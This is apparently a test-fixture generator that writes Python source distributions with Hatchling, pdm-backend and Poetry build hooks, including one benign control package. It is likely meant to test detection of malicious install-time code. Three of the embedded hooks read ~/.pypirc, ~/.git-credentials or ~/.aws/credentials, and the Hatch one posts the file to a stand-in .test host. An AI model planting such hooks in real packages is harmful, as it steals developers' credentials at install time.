#!/usr/bin/env python3
"""Writes an sdist whose build backend (Hatchling, pdm-backend,
poetry-core) the offline host lacks, with code of the project's own that
the backend runs at every build from source. Only writes the archive:
nothing of it runs here.

  make_hook_sdist.py hatch|hatchok|pdm|poetry OUT.tar.gz

hatch   env-toml-loader: [tool.hatch.build.hooks.custom] names
        hatch_build.py, whose BuildHookInterface subclass's initialize()
        reads ~/.pypirc and posts it to a .test name (a stealer in a
        build hook, run by `pip install` of the sdist).
hatchok version-stamp (benign): its Hatch build hook writes the version
        into a file of the build tree and reads its own pyproject.toml.
pdm     pdm-env-sync: pdm_build.py's pdm_build_initialize(context) reads
        ~/.git-credentials and looks a .test name up.
poetry  poetry-ext-kit: [tool.poetry.build] script = "build.py", which
        reads ~/.aws/credentials when run.
"""
import io
import sys
import tarfile

STEAL_PYPIRC = (
    "import os, urllib.request\n"
    "def _send():\n"
    "    data = open(os.path.expanduser('~/.pypirc'), 'rb').read()\n"
    "    try:\n"
    "        urllib.request.urlopen('http://build-stats.env-toml.test/b', data, timeout=3)\n"
    "    except Exception:\n"
    "        pass\n")

KINDS = {
    "hatch": ("env_toml_loader", "1.0.2", {
        "pyproject.toml":
            '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
            '[project]\nname = "env-toml-loader"\nversion = "1.0.2"\n\n'
            '[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n',
        "hatch_build.py":
            STEAL_PYPIRC +
            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            "class CustomBuildHook(BuildHookInterface):\n"
            "    def initialize(self, version, build_data):\n"
            "        if os.path.isdir(self.root):\n"
            "            _send()\n",
    }),
    "hatchok": ("version_stamp", "0.3.0", {
        "pyproject.toml":
            '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
            '[project]\nname = "version-stamp"\nversion = "0.3.0"\n\n'
            '[tool.hatch.build.hooks.custom]\n',
        "hatch_build.py":
            "import os\n"
            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            "class StampHook(BuildHookInterface):\n"
            "    PLUGIN_NAME = 'custom'\n"
            "    def initialize(self, version, build_data):\n"
            "        open(os.path.join(self.root, 'pyproject.toml')).read()\n"
            "        with open(os.path.join(self.root, 'version_stamp', '_version.py'), 'w') as f:\n"
            "            f.write('__version__ = %r\\n' % self.metadata.version)\n"
            "        build_data['artifacts'].append('version_stamp/_version.py')\n",
    }),
    "pdm": ("pdm_env_sync", "2.1.0", {
        "pyproject.toml":
            '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n\n'
            '[project]\nname = "pdm-env-sync"\nversion = "2.1.0"\n',
        "pdm_build.py":
            "import os, socket\n"
            "def pdm_build_initialize(context):\n"
            "    open(os.path.expanduser('~/.git-credentials')).read()\n"
            "    try:\n"
            "        socket.getaddrinfo('sync.pdm-env.test', 443)\n"
            "    except OSError:\n"
            "        pass\n",
    }),
    "poetry": ("poetry_ext_kit", "0.9.1", {
        "pyproject.toml":
            '[build-system]\nrequires = ["poetry-core"]\n'
            'build-backend = "poetry.core.masonry.api"\n\n'
            '[tool.poetry]\nname = "poetry-ext-kit"\nversion = "0.9.1"\n'
            'description = ""\nauthors = []\n\n'
            '[tool.poetry.build]\nscript = "build.py"\ngenerate-setup-file = false\n',
        "build.py":
            "import os\n"
            "def build(setup_kwargs):\n"
            "    open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "if __name__ == '__main__':\n"
            "    build({})\n",
    }),
}


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in KINDS:
        sys.exit(__doc__)
    pkg, version, files = KINDS[sys.argv[1]]
    root = "%s-%s/" % (pkg, version)
    files = dict(files)
    files["PKG-INFO"] = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (
        pkg.replace("_", "-"), version)
    files["%s/__init__.py" % pkg] = ""
    with tarfile.open(sys.argv[2], "w:gz") as tf:
        for name, text in files.items():
            data = text.encode()
            ti = tarfile.TarInfo(root + name)
            ti.size, ti.mode = len(data), 0o644
            tf.addfile(ti, io.BytesIO(data))


main()
